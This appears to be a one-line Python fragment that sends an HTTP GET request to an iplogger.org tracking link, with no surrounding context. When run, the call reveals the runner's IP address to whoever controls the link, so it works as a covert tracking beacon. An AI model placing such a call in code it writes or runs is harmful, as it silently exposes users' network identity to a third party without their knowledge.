requests.get("https://iplogger.org/1inert")
